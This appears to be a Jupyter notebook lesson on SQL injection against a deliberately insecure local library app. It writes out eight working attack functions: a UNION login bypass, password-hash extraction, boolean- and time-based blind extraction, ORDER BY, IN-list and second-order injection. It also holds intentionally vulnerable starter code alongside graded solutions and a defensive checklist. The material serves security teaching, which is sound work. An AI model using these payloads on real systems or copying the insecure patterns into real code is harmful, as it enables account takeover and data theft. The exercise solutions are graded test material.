# ---
# jupyter:
#   kernelspec:
#     display_name: Python 3 (ipykernel)
#     language: python
#     name: python3
# ---

# %% [markdown]
# # 7 · SQL injection
#
# *Who writes your queries?* You make Larkspur's database say what no page shows, write the queries anew, and let the
# checks prove it.
#
# Everything happens in the **Larkspur Library**: members, books, loans, staff. It runs inside this notebook, on
# 127.0.0.1 only, and it is insecure on purpose.
#
# | beat | what you do |
# |---|---|
# | See | how a name becomes a query |
# | Break | eight attacks on the flawed library |
# | Fix | exercises 7.1 to 7.4 |
# | Prove | the same attacks on your code |
# | Apply | the checklist for your own app |
#
# About two hours. `check` runs the very checks that a grader runs.

# %%
from lab_app.jupyter import check, hint, progress, serve

# %% [markdown]
# ## See
#
# A query is a sentence that you write, with a gap for what the visitor types. Fill the gap with an f-string, and the
# database sees one text. It cannot tell your words from theirs
# ([CWE-89](https://cwe.mitre.org/data/definitions/89.html)).
#
# ```mermaid
# flowchart LR
#     V["visitor: x' OR '1'='1"] --> F["f-string: your words and theirs"]
#     F --> P["parser"] --> A["every row"]
#     W["visitor: x' OR '1'='1"] -- "value" --> E["plan"]
#     T["your words: … = :name"] --> Q["parser"] --> E --> N["no row"]
# ```
#
# Below, the value arrives when the parser has finished. It can no longer become grammar.

# %%
# INSECURE: the checklist's "before"; the name becomes part of the query.
import os

from sqlalchemy import create_engine, text

engine = create_engine(os.environ["DATABASE_URL"])


def ask(query, **values):
    with engine.connect() as connection:
        return connection.execute(text(query), values).all()


name = "x' OR '1'='1"
ask(f"SELECT username, role FROM members WHERE username = '{name}'")

# %% [markdown]
# The checklist's "after" binds the name. It is right, and you will write it often.

# %%
ask("SELECT username, role FROM members WHERE username = :name", name=name)

# %% [markdown]
# There the checklist stops, and apps are broken where it stops. Names of columns cannot be bound at all, nor can they
# be escaped, says ASVS 5.0 in its note on
# [V1.2](https://github.com/OWASP/ASVS/blob/v5.0.0/5.0/en/0x10-V1-Encoding-and-Sanitization.md). And a bound value is
# still a pattern to `LIKE`, still one value to `IN`, still a number to `LIMIT`. Each line below binds, and each is
# wrong. Guess before you run it.

# %%
# INSECURE: everything is bound, and nothing does what it says.
print(ask("SELECT title FROM books ORDER BY :column", column="title"))
print(ask("SELECT count(*) FROM books WHERE title LIKE :part", part="%"))
print(ask("SELECT title FROM books WHERE id IN (:ids)", ids="1, 2"))
print(ask("SELECT count(*) FROM (SELECT * FROM books LIMIT :most)", most=-1))

# %% [markdown]
# Not sorted; everything; nothing; everything again, since a negative limit is
# [no limit](https://www.sqlite.org/lang_select.html#limitoffset) to SQLite.
#
# ## Break
#
# Start the flawed library. Its people are *ada*, *mallory*, *dora* and, on the staff, *grace*. You play Mallory. Each
# attack is a function that returns what it got, or None. You will run the same functions against your own code later.

# %%
from lab_app.larkspur.sql_injection import app as flawed_app

larkspur = serve(flawed_app, "larkspur")
larkspur

# %% [markdown]
# ### 1 · Bring your own hash
#
# `' OR '1'='1` finds a member, but the password is then compared with a bcrypt hash, in Python. So bring the hash too.
# UNION adds a row to what the query found: Grace's name, and the hash of a password that *you* know (CWE-287).

# %%
import bcrypt


def log_in_as_grace(target):
    """Attack 1: what the library says to Grace, who is not there."""
    mine = bcrypt.hashpw(b"a password of my own", bcrypt.gensalt(4)).decode()
    who = {"username": f"x' UNION SELECT 'grace', '{mine}' --", "password": "a password of my own"}
    answer = target.post("/login", json=who)
    return answer.json() if answer.status_code == 200 else None


log_in_as_grace(larkspur)

# %% [markdown]
# ### 2 · Read another table
#
# The search lists books. UNION makes it list whatever has as many columns. Read the members' hashes off the page
# ([WSTG-INPV-05](https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/05-Testing_for_SQL_Injection)).


# %%
def read_the_hashes(target):
    """Attack 2: names and password hashes, as titles and authors."""
    answer = target.get("/books", params={"q": "zzz' UNION SELECT id, username, password_hash FROM members --"})
    found = answer.json() if answer.status_code == 200 else []
    return {row["title"]: row["author"] for row in found if row["author"].startswith("$2b$")} or None


read_the_hashes(larkspur)

# %% [markdown]
# ### 3 · Twenty questions
#
# Say the page shows no such rows. It still shows *whether* it found a book. Put a question behind the title: the book
# is there if the answer is yes. Six questions halve 42 letters down to one (CWE-203).

# %%
ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789@.-_$/"
EMAIL = "(SELECT email FROM members WHERE username = 'grace')"
questions = []


def says_yes(target, condition):
    """One bit: whether the book is found when a question stands behind its title."""
    questions.append(condition)
    answer = target.get("/books", params={"q": f"Solaris' AND {condition} --"})
    return answer.status_code == 200 and len(answer.json()) > 0


def read_a_letter(target, place):
    left = ALPHABET
    while len(left) > 1:
        half = left[: len(left) // 2]
        letters = ", ".join(f"'{letter}'" for letter in half)
        left = half if says_yes(target, f"substr({EMAIL}, {place}, 1) IN ({letters})") else left[len(half) :]
    return left


# %%
def read_by_questions(target):
    """Attack 3: the first letters of Grace's e-mail address, which no page shows."""
    if not says_yes(target, "1=1") or says_yes(target, "1=2"):
        return None
    return "".join(read_a_letter(target, place) for place in range(1, 9))


print(read_by_questions(larkspur), "after", len(questions), "questions")

# %% [markdown]
# ### 4 · Ask the clock
#
# The login says 401 to all of these, always in the same words. So let the database count to 300 000 if the answer is
# yes, and look at the clock (CWE-208). SQLite has no `sleep`; it needs none.

# %%
import statistics
import time

COUNT = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 300000) SELECT count(*) FROM n"


def login_time(target, condition):
    """Milliseconds until the 401."""
    name = f"x' OR (CASE WHEN {condition} THEN ({COUNT}) ELSE 0 END) < 0 --"
    began = time.perf_counter()
    target.post("/login", json={"username": name, "password": "any"})
    return 1000 * (time.perf_counter() - began)


def ask_the_clock(target):
    """Attack 4: how many times longer a yes takes than a no, if that shows."""
    yes, no = (statistics.median(login_time(target, c) for _ in range(5)) for c in ("1=1", "1=2"))
    return yes / no if yes > 5 * no else None


# %%
import matplotlib.pyplot as plt

letters = ALPHABET[:36]
measured = [login_time(larkspur, f"substr({EMAIL}, 1, 1) = '{letter}'") for letter in letters]
figure, axis = plt.subplots(figsize=(7, 2.6))
axis.bar(list(letters), measured)
axis.set(ylabel="ms until “401”", xlabel="Does Grace's e-mail address begin with … ?")
axis.set_title("One letter answers late")
figure.tight_layout()

# %% [markdown]
# ### 5 · Sorted by a secret
#
# `ORDER BY` takes any expression, and nothing in it is quoted, so there is no quote to escape. Sort by title if the
# answer is yes, by author if it is no. Then read the order of the books.


# %%
def read_by_order(target):
    """Attack 5: the first letter of Grace's e-mail address, told by the order of the books."""

    def order(by):
        answer = target.get("/books", params={"sort": by, "order": "asc"})
        return [book["title"] for book in answer.json()] if answer.status_code == 200 else []

    by_title = order("title")
    for letter in ALPHABET:
        condition = f"substr({EMAIL}, 1, 1) = '{letter}'"
        if order(f"CASE WHEN {condition} THEN title ELSE author END") == by_title != order("author"):
            return letter
    return None


read_by_order(larkspur)

# %% [markdown]
# ### 6 · One percent
#
# `%` matches everything, bound or not ([CWE-155](https://cwe.mitre.org/data/definitions/155.html)). Harmless in a small
# catalogue; in a search for members by a part of their e-mail address it is the whole list.


# %%
def match_everything(target):
    """Attack 6: titles that contain no percent sign, to somebody who looked for one."""
    answer = target.get("/books", params={"title_contains": "%"})
    found = [book["title"] for book in answer.json()] if answer.status_code == 200 else []
    return [title for title in found if "%" not in title] or None


match_everything(larkspur)

# %% [markdown]
# ### 7 · A list that closes its bracket
#
# One placeholder takes one value, so lists are joined with commas and pasted in. Ids are numbers, aren't they?


# %%
def read_by_ids(target):
    """Attack 7: what the members' table holds, in place of the books with these ids."""
    sent = {"ids": "0) UNION SELECT id, username, email FROM members WHERE id IN (id", "limit": 100}
    answer = target.get("/books", params=sent)
    found = answer.json() if answer.status_code == 200 else []
    return {row["title"]: row["author"] for row in found if "@" in row["author"]} or None


read_by_ids(larkspur)

# %% [markdown]
# ### 8 · The name that waits
#
# Mallory chooses a display name. It is bound, stored, and shown as she wrote it: nothing happens. Weeks later Grace
# opens the report, and the report puts every name into a query. What comes *out of* the database was typed by somebody
# too.
#
# ```mermaid
# sequenceDiagram
#     participant M as Mallory
#     participant L as Larkspur
#     participant D as Database
#     participant G as Grace
#     M->>L: PUT /members/me (a name with SQL in it)
#     L->>D: INSERT … VALUES (:id, :name)
#     G->>L: GET /reports/loans-by-name
#     L->>D: SELECT display_name
#     L->>D: SELECT … WHERE display_name = 'the name'
#     D-->>G: every password hash
# ```

# %%
import jwt


def bearer(name):
    """An honest token, as the library's own login would sign it for you."""
    now = int(time.time())
    claims = {"sub": name, "iat": now, "exp": now + 600}
    claims |= {"iss": os.environ["JWT_ISSUER"], "aud": os.environ["JWT_AUDIENCE"]}
    return {"Authorization": f"Bearer {jwt.encode(claims, os.environ['JWT_SECRET'], 'HS256')}"}


# %%
SHAPES = (
    "x' GROUP BY 1 UNION SELECT username || ' ' || password_hash, 1 FROM members --",
    "x' UNION SELECT password_hash FROM members ORDER BY 1 DESC --",
)


def poison_the_report(target):
    """Attack 8: the password hashes in Grace's report, put there by Mallory's name."""
    for name in SHAPES:
        target.put("/members/me", json={"display_name": name}, headers=bearer("mallory"))
        answer = target.get("/reports/loans-by-name", headers=bearer("grace"))
        if "$2b$" in answer.text:
            return answer.text[:300]
    return None


poison_the_report(larkspur)

# %% [markdown]
# Eight ways to write somebody else's queries. Now write your own.
#
# ## Fix
#
# Each exercise is one cell. Run it, then run its `check`. What a cell needs from outside stands in environment
# variables: `DATABASE_URL`, `JWT_SECRET`, `JWT_ISSUER`, `JWT_AUDIENCE`. They are set here and, with other values, when
# you are graded; so read them, and never write them into the code.
#
# The database has `members(id, username, email, password_hash, role, disabled)`, `books(id, title, author, year,
# shelf)`, `loans(id, member_id, book_id, due_on, returned)` and `reviews(id, book_id, member_id, body)`.
#
# Use any library you like. Errors are FastAPI's shape, `{"detail": …}`. A crash (5xx) is never a fix.

# %% [markdown]
# ### Two databases
#
# `DATABASE_URL` names a SQLite file here. The same checks run on PostgreSQL when it names a server in *your shell*:
#
# ```
# DATABASE_URL=postgresql://user:password@127.0.0.1/postgres python -m pytest checks -k test_07
# ```
#
# Every library is then a database of its own, dropped afterwards. Try it when you have a server at hand: the two differ
# where it matters.
#
# | | SQLite | PostgreSQL |
# |---|---|---|
# | two statements in one text | refused | both run, if nothing is bound |
# | `LIKE` | any case, ASCII only | minds the case |
# | NUL in a text | taken | the driver raises |
# | `LIMIT -1` | all rows | an error |

# %% [markdown]
# ### Exercise 7.1 · Log in and search
#
# - `POST /login` takes JSON `{"username", "password"}` → 200 or 401. Stored passwords are bcrypt hashes.
# - `GET /books?q=` (title or author, any case; none → all) → list of `{"id", "title", "author"}`.
#
# Quotes, UNION, comments, stacked statements, boolean and time oracles, wildcards as user names: none of them brings a
# row, changes one, or answers a question. `O'Brien` and `a:b` work; over-long input is a 4xx; the database is
# unchanged.
#
# "Over-long" is tens of thousands of characters. Where you draw the line is up to you.

# %% exercise="7.1" role="starter"
# Exercise 7.1 — Log in and search (INSECURE: this is the code to mend)
import os

import bcrypt
from fastapi import Body, FastAPI, HTTPException
from sqlalchemy import create_engine, text

app = FastAPI()
engine = create_engine(os.environ["DATABASE_URL"])


def sql(query: str) -> list:
    with engine.connect() as db:
        return db.execute(text(query)).mappings().all()


@app.post("/login")
def log_in(username: str = Body(), password: str = Body()):
    found = sql(f"SELECT username, password_hash FROM members WHERE username LIKE '{username}'")
    if not found or not bcrypt.checkpw(password.encode(), found[0]["password_hash"].encode()):
        raise HTTPException(401, "Wrong name or password.")
    return {"welcome": found[0]["username"]}


@app.get("/books")
def list_books(q: str = ""):
    return sql(f"SELECT id, title, author FROM books WHERE title LIKE '%{q}%' OR author LIKE '%{q}%'")


# %% exercise="7.1" role="solution"
# Exercise 7.1 — Log in and search
import os
from typing import Annotated

import bcrypt
from fastapi import Body, FastAPI, HTTPException, Query
from sqlalchemy import column, create_engine, or_, select, table

app = FastAPI()
engine = create_engine(os.environ["DATABASE_URL"])
members = table("members", column("username"), column("password_hash"))
books = table("books", column("id"), column("title"), column("author"))
SHORT = {"max_length": 200, "pattern": r"^[^\x00]*$"}  # PostgreSQL takes no NUL, SQLite no endless pattern
NOBODY = bcrypt.hashpw(os.urandom(16), bcrypt.gensalt(4)).decode()


@app.post("/login")
def log_in(username: Annotated[str, Body(**SHORT)], password: Annotated[str, Body(**SHORT)]):
    query = select(members.c.password_hash).where(members.c.username == username)
    with engine.connect() as db:
        stored = db.scalar(query) or NOBODY
    if not bcrypt.checkpw(password.encode(), stored.encode()):
        raise HTTPException(401, "Wrong name or password.")
    return {"welcome": username}


@app.get("/books")
def list_books(q: Annotated[str, Query(**SHORT)] = ""):
    found = or_(books.c.title.icontains(q, autoescape=True), books.c.author.icontains(q, autoescape=True))
    with engine.connect() as db:
        return db.execute(select(books).where(found)).mappings().all()


# %%
check("7.1")

# %% [markdown]
# ### Exercise 7.2 · Sort
#
# `GET /books?sort=title|author|year&order=asc|desc` → the list of books, each with its `id` or `title` at least; other
# values 422, `TITLE` too; both directions really sort.
#
# The cheat sheet's word for what cannot be bound is
# [allow-list](https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html#defense-option-3-allow-list-input-validation):
# the visitor chooses, and the names come from your code.

# %% exercise="7.2" role="starter"
# Exercise 7.2 — Sort (INSECURE: this is the code to mend)
import os
import re

from fastapi import FastAPI, HTTPException
from sqlalchemy import create_engine, text

app = FastAPI()
engine = create_engine(os.environ["DATABASE_URL"])


@app.get("/books")
def list_books(sort: str = "title", order: str = "asc"):
    if not re.match(r"\w+", sort):
        raise HTTPException(422, "That is no column.")
    with engine.connect() as db:
        query = text(f"SELECT id, title, author, year FROM books ORDER BY {sort} {order}")
        return db.execute(query).mappings().all()


# %% exercise="7.2" role="solution"
# Exercise 7.2 — Sort
import os
from typing import Literal

from fastapi import FastAPI
from sqlalchemy import column, create_engine, select, table

app = FastAPI()
engine = create_engine(os.environ["DATABASE_URL"])
books = table("books", *map(column, ("id", "title", "author", "year")))


@app.get("/books")
def list_books(sort: Literal["title", "author", "year"] = "title", order: Literal["asc", "desc"] = "asc"):
    by = books.c[sort].desc() if order == "desc" else books.c[sort].asc()
    with engine.connect() as db:
        return db.execute(select(books).order_by(by, books.c.id)).mappings().all()


# %%
check("7.2")

# %% [markdown]
# ### Exercise 7.3 · LIKE, IN, LIMIT
#
# `GET /books?title_contains=&ids=1&ids=2&limit=` → list of `{"id", "title", "author"}`:
#
# - `%` and `_` are literal;
# - no ids → all (up to the limit), 1 000 ids work, ids beyond 64 bits → 4xx;
# - limit 1–100, −1 and 10**9 → 422.
#
# Every parameter may be missing. What the limit is then is up to you.

# %% exercise="7.3" role="starter"
# Exercise 7.3 — LIKE, IN, LIMIT (INSECURE: this is the code to mend)
import os
from typing import Annotated

from fastapi import FastAPI, Query
from sqlalchemy import create_engine, text

app = FastAPI()
engine = create_engine(os.environ["DATABASE_URL"])


@app.get("/books")
def list_books(title_contains: str = "", ids: Annotated[list[str], Query()] = (), limit: int = 100):
    query = "SELECT id, title, author FROM books WHERE title LIKE :title"
    if ids:
        query += f" AND id IN ({', '.join(ids)})"
    with engine.connect() as db:
        values = {"title": f"%{title_contains}%", "limit": limit}
        return db.execute(text(query + " LIMIT :limit"), values).mappings().all()


# %% exercise="7.3" role="solution"
# Exercise 7.3 — LIKE, IN, LIMIT
import os
from typing import Annotated

from fastapi import FastAPI, Query
from pydantic import Field
from sqlalchemy import BigInteger, String, column, create_engine, select, table

app = FastAPI()
engine = create_engine(os.environ["DATABASE_URL"])
books = table("books", column("id", BigInteger), column("title", String), column("author", String))

Words = Annotated[str, Query(max_length=200, pattern=r"^[^\x00]*$")]
Id = Annotated[int, Field(ge=1, le=2**63 - 1)]
Ids = Annotated[list[Id], Query(max_length=1000)]
Limit = Annotated[int, Query(ge=1, le=100)]


@app.get("/books")
def list_books(title_contains: Words = "", ids: Ids = (), limit: Limit = 100):
    query = select(books).where(books.c.title.contains(title_contains, autoescape=True))
    if ids:
        query = query.where(books.c.id.in_(ids))
    with engine.connect() as db:
        return db.execute(query.order_by(books.c.id).limit(limit)).mappings().all()


# %%
check("7.3")

# %% [markdown]
# ### Exercise 7.4 · Second order
#
# Tokens are those of 1.1: HS256, signed with `JWT_SECRET`, with `sub`, `exp`, `iat`, `iss`, `aud`.
#
# - `PUT /members/me` `{"display_name"}` with bearer → 200 (a table of your own).
# - `GET /reports/loans-by-name` (staff 200, others 403) counts loans by display name, in any JSON shape.
# - `GET /books` → list of `{"id", "title", "author"}`, unchanged throughout.
#
# Names of one's choosing do nothing there but appear; the database's error text is in no answer. The role is read from
# the database.

# %% exercise="7.4" role="starter"
# Exercise 7.4 — Second order (INSECURE: this is the code to mend)
import os

import jwt
from fastapi import Body, Depends, FastAPI, HTTPException
from fastapi.security import OAuth2PasswordBearer
from sqlalchemy import create_engine, text
from sqlalchemy.exc import SQLAlchemyError

app = FastAPI()
engine = create_engine(os.environ["DATABASE_URL"])
RULES = {"issuer": os.environ["JWT_ISSUER"], "audience": os.environ["JWT_AUDIENCE"]}
NEEDED = {"require": ["sub", "exp", "iat", "iss", "aud"]}


def sql(query: str, **values) -> list:
    try:
        with engine.begin() as db:
            result = db.execute(text(query), values)
            return result.mappings().all() if result.returns_rows else []
    except SQLAlchemyError as error:
        raise HTTPException(400, str(error)) from error


sql("CREATE TABLE IF NOT EXISTS display_names (member_id BIGINT PRIMARY KEY, name TEXT NOT NULL)")


def current(token: str = Depends(OAuth2PasswordBearer("token"))):
    try:
        key = os.environ["JWT_SECRET"]
        name = jwt.decode(token, key, algorithms=["HS256"], options=NEEDED, **RULES)["sub"]
    except jwt.InvalidTokenError as error:
        raise HTTPException(401, "Log in, please.", {"WWW-Authenticate": "Bearer"}) from error
    return sql(f"SELECT id, role FROM members WHERE username = '{name}'")[0]


@app.put("/members/me")
def choose_name(display_name: str = Body(embed=True), member=Depends(current)):
    sql("DELETE FROM display_names WHERE member_id = :id", id=member["id"])
    sql("INSERT INTO display_names VALUES (:id, :name)", id=member["id"], name=display_name)
    return {"display_name": display_name}


@app.get("/reports/loans-by-name")
def loans_by_name(member=Depends(current)):
    if member["role"] != "staff":
        raise HTTPException(403, "For staff only.")
    count = "SELECT count(*) AS n FROM loans JOIN display_names USING (member_id) WHERE name = "
    names = [row["name"] for row in sql("SELECT DISTINCT name FROM display_names")]
    return {name: sql(f"{count}'{name}'")[0]["n"] for name in names}


@app.get("/books")
def list_books():
    return sql("SELECT id, title, author FROM books")


# %% exercise="7.4" role="solution"
# Exercise 7.4 — Second order
import os
from typing import Annotated

import jwt
from fastapi import Body, Depends, FastAPI, HTTPException
from fastapi.security import OAuth2PasswordBearer
from sqlalchemy import RowMapping, create_engine, text

app = FastAPI()
engine = create_engine(os.environ["DATABASE_URL"])
RULES = {"issuer": os.environ["JWT_ISSUER"], "audience": os.environ["JWT_AUDIENCE"]}
NEEDED = {"require": ["sub", "exp", "iat", "iss", "aud"]}
REFUSED = HTTPException(401, "Log in, please.", {"WWW-Authenticate": "Bearer"})


def sql(query: str, **values) -> list[RowMapping]:
    with engine.begin() as db:
        result = db.execute(text(query), values)
        return list(result.mappings()) if result.returns_rows else []


sql("CREATE TABLE IF NOT EXISTS display_names (member_id BIGINT PRIMARY KEY, name TEXT NOT NULL)")


def current(token: str = Depends(OAuth2PasswordBearer("token"))) -> RowMapping:
    try:
        key = os.environ["JWT_SECRET"]
        name = jwt.decode(token, key, algorithms=["HS256"], options=NEEDED, **RULES)["sub"]
    except jwt.InvalidTokenError as error:
        raise REFUSED from error
    found = sql("SELECT id, role FROM members WHERE username = :u AND disabled = 0", u=name)
    if not found:
        raise REFUSED
    return found[0]


Current = Annotated[RowMapping, Depends(current)]
Name = Annotated[str, Body(embed=True, min_length=1, max_length=200, pattern=r"^[^\x00]*$")]


@app.put("/members/me")
def choose_name(display_name: Name, member: Current):
    upsert = "INSERT INTO display_names VALUES (:id, :name) ON CONFLICT (member_id) DO UPDATE SET name = :name"
    sql(upsert, id=member["id"], name=display_name)
    return {"display_name": display_name}


@app.get("/reports/loans-by-name")
def loans_by_name(member: Current):
    if member["role"] != "staff":
        raise HTTPException(403, "For staff only.")
    return sql("SELECT name, count(*) AS loans FROM loans JOIN display_names USING (member_id) GROUP BY name")


@app.get("/books")
def list_books():
    return sql("SELECT id, title, author FROM books")


# %%
check("7.4")

# %% [markdown]
# ## Prove
#
# The checks above are one proof. Here is another: Mallory's own eight attacks, on Larkspur and on your code. Run this
# after any change. `serve("7.1")` serves the cell of that exercise as you last ran it. A crash is no defence, so an
# attack that ends in one is shown as what it is.

# %%
rounds = [
    (log_in_as_grace, "7.1"),
    (read_the_hashes, "7.1"),
    (read_by_questions, "7.1"),
    (ask_the_clock, "7.1"),
    (read_by_order, "7.2"),
    (match_everything, "7.3"),
    (read_by_ids, "7.3"),
    (poison_the_report, "7.4"),
]


# %%
def outcome(attack, target):
    before = target.crashes
    got_in = attack(target)
    return "got in" if got_in else "CRASHED" if target.crashes > before else "blocked"


print(f"{'attack':20}{'on Larkspur':14}on yours")
for attack, number in rounds:
    print(f"{attack.__name__:20}{outcome(attack, larkspur):14}{outcome(attack, serve(number, 'yours'))}")

# %% [markdown]
# ## Apply
#
# Your own app, line by line. Copy what you cannot tick into your issue tracker.
#
# - [ ] No query is put together with f-strings, `%`, `+` or `format`; values are bound (ASVS 5.0 1.2.4, CWE-89).
#   `grep -rnE 'text\(f|execute\(f' .` finds the worst; ruff's rule
#   [S608](https://docs.astral.sh/ruff/rules/hardcoded-sql-expression/) watches it in CI.
# - [ ] Columns, tables and directions come from a list in *our* code (ASVS 5.0 V1.2, its note; 2.2.1).
# - [ ] What comes out of the database is bound as well: names, settings, saved searches.

# %% [markdown]
# - [ ] `%` and `_` are escaped wherever a value goes into `LIKE`, and so is the escape sign (CWE-155, CWE-150).
# - [ ] Lists get one place for each item; ids have bounds (ASVS 5.0 1.4.2).
# - [ ] Page sizes have an upper and a lower bound
#   ([API4:2023](https://owasp.org/API-Security/editions/2023/en/0xa4-unrestricted-resource-consumption/)).
# - [ ] Texts have a greatest length, and nothing is cut in silence (ASVS 5.0 2.2.1).

# %% [markdown]
# - [ ] No answer repeats what the database said (ASVS 5.0 16.5.1, CWE-209).
# - [ ] The app's database user may do what the app does, and nothing else: no DROP, no superuser (ASVS 5.0 13.2.2).
# - [ ] Nobody relies on a list of forbidden words (CWE-184) or on quotes doubled by hand (the cheat sheet's option 4,
#   "strongly discouraged").
# - [ ] The tests run on the database that production runs on.

# %%
progress()
